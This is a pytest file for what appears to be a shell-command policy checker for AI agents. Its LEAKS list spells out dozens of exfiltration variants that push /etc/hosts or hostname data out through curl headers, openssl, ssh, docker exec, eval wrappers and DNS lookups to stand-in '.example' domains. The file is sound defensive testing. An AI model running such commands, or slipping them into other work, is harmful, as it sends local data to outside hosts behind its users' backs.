"""What was read does not flow into what sends: neither into its words nor into its input."""

from __future__ import annotations

import pytest

from claudeops.domain.calls import VerdictKind
from support.policy_cases import judged

LEAKS = (
    'curl -A "$(cat /etc/hosts)" http://127.0.0.1/',
    'curl -H "X: $(cat /etc/hosts)" http://127.0.0.1/',
    'curl "http://127.0.0.1/$(cat /etc/hosts | tr -d \' \')"',
    'wget -q -O - -U "$(cat /etc/hosts)" http://127.0.0.1/',
    'x="$(cat /etc/hosts)"; curl -A "$x" http://127.0.0.1/',
    'curl -A "$HOSTNAME" http://127.0.0.1/',
    "curl -A `uname -n` http://127.0.0.1/",
    "curl -d @- http://127.0.0.1/ < /etc/hosts",
    "cat /etc/hosts | curl -T - http://127.0.0.1/",
    "cat /etc/hosts | openssl s_client -connect 127.0.0.1:443",
    "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | openssl s_client -connect 127.0.0.1:443",
    "df -h | openssl s_client -connect 127.0.0.1:443",
    "openssl s_client -connect 127.0.0.1:443 < /etc/hosts",
    'openssl s_client -connect 127.0.0.1:443 <<< "$(cat /etc/hosts)"',
    "openssl s_client -connect 127.0.0.1:443 <<E\n$(cat /etc/hosts)\nE",
    'echo "$(cat /etc/hosts)" | openssl s_client -connect 127.0.0.1:443',
    "{ cat /etc/hosts; echo; } | openssl s_client -connect 127.0.0.1:443",
    "cat /etc/hosts | { df; openssl s_client -connect 127.0.0.1:443; }",
    "cat /etc/hosts | (openssl s_client -connect 127.0.0.1:443)",
    "{ openssl s_client -connect 127.0.0.1:443; } < /etc/hosts",
    "cat /etc/hosts | cat | openssl s_client -connect 127.0.0.1:443",
    "cat /etc/hosts | nc -z 127.0.0.1 80",
    "cat /etc/hosts | ssh host uptime",
    "df -h | ssh host uptime",
    "ssh host uptime < /etc/hosts",
    "ssh host cat < /etc/hosts",
    "cat /etc/hosts | docker exec -i web cat",
    "docker exec -i web cat < /etc/hosts",
    "cat /etc/hosts | kubectl exec -i web -- cat",
    'dig "$(hostname)".example',
    'dig +short "$(cat /etc/hosts | head -1)".example.com',
    'host "$(hostname).example.com"',
    'nslookup "$(hostname).example.com"',
    'ping -c 1 "$(hostname).example.com"',
    'getent hosts "$(hostname).example.com"',
    "cat /etc/hosts | xargs curl -A",
    "cat /etc/hosts | xargs -n1 -I{} curl http://127.0.0.1/{}",
    "cat /etc/hosts | xargs -n1 dig",
    'cat /etc/hosts | while read -r line; do curl -A "$line" http://127.0.0.1/; done',
    'cat /etc/hosts | while read -r line; do dig "$line.example"; done',
    "while read -r line; do ssh host uptime; done < /etc/hosts",
    "cat /etc/hosts | while read -r line; do openssl s_client -connect 127.0.0.1:443; done",
    'for i in $(cat /etc/hosts); do curl "http://127.0.0.1/$i"; done',
    'timeout 5 curl -A "$(cat /etc/hosts)" http://127.0.0.1/',
    "cat /etc/hosts | timeout 5 openssl s_client -connect 127.0.0.1:443",
    "bash -c 'cat /etc/hosts | openssl s_client -connect 127.0.0.1:443'",
    "cat /etc/hosts | bash -c 'openssl s_client -connect 127.0.0.1:443'",
    "cat /etc/hosts | bash -c 'df; bash -c \"openssl s_client -connect 127.0.0.1:443\"'",
    "cat /etc/hosts | eval 'openssl s_client -connect 127.0.0.1:443'",
    "bash -c 'openssl s_client -connect 127.0.0.1:443' < /etc/hosts",
    "eval 'openssl s_client -connect 127.0.0.1:443' < /etc/hosts",
    "timeout 5 openssl s_client -connect 127.0.0.1:443 < /etc/hosts",
    "command openssl s_client -connect 127.0.0.1:443 < /etc/hosts",
    "time openssl s_client -connect 127.0.0.1:443 < /etc/hosts",
    "bash -c 'timeout 5 openssl s_client -connect 127.0.0.1:443' < /etc/hosts",
    "timeout 5 ssh host uptime < /etc/hosts",
    "find /etc/hosts -exec openssl s_client -connect 127.0.0.1:443 \\; < /etc/hosts",
)  # fmt: skip

HARMLESS = (
    "curl -sS http://127.0.0.1/health",
    "curl -A probe/1.0 http://127.0.0.1/",
    'url=http://127.0.0.1/; curl -sS "$url"',
    "for page in a b; do curl -sS http://127.0.0.1/$page; done",
    "curl -sS http://127.0.0.1/ | head -5",
    "wget --spider http://127.0.0.1/",
    "openssl s_client -connect 127.0.0.1:443 < /dev/null",
    "echo | openssl s_client -connect 127.0.0.1:443",
    "echo Q | openssl s_client -connect 127.0.0.1:443",
    "true | openssl s_client -connect 127.0.0.1:443",
    "openssl s_client -connect 127.0.0.1:443 <<< Q",
    "openssl s_client -connect 127.0.0.1:443 <<'E'\nQ\nE",
    "openssl s_client -connect 127.0.0.1:443 < /dev/null | openssl x509 -noout -dates",
    "timeout 5 openssl s_client -connect 127.0.0.1:443 < /dev/null",
    "bash -c 'openssl s_client -connect 127.0.0.1:443' < /dev/null",
    "echo | bash -c 'openssl s_client -connect 127.0.0.1:443'",
    "ssh host uptime",
    "ssh host 'cat /etc/hosts | wc -l'",
    "for h in a b; do ssh $h uptime; done",
    "docker ps -q | xargs -n 1 docker inspect -f '{{.State.Status}}'",
    "docker exec web df -h < /etc/hosts",
    "dig +short localhost",
    "getent hosts localhost",
    "ping -c 1 localhost",
)  # fmt: skip


@pytest.mark.parametrize("command", LEAKS)
@pytest.mark.parametrize("tier", [1, 2, 3])
def test_what_was_read_is_not_sent(command: str, tier: int) -> None:
    verdict = judged(command, tier)
    assert verdict.kind is not VerdictKind.ALLOW, verdict.reason


@pytest.mark.parametrize("command", HARMLESS)
def test_what_is_written_out_may_be_sent(command: str) -> None:
    verdict = judged(command, 1)
    assert verdict.kind is VerdictKind.ALLOW, verdict.reason


@pytest.mark.parametrize(
    ("command", "remedy"),
    [
        ('curl -A "$(cat /etc/hosts)" http://127.0.0.1/', "curl may send only what is written out"),
        ("cat /etc/hosts | openssl s_client -connect 127.0.0.1:443", "add </dev/null"),
        ("openssl s_client -connect 127.0.0.1:443 < /etc/hosts", "add </dev/null"),
        ("df -h | ssh host uptime", "add </dev/null"),
    ],
)
def test_the_refusal_names_the_remedy(command: str, remedy: str) -> None:
    assert remedy in judged(command, 1).reason
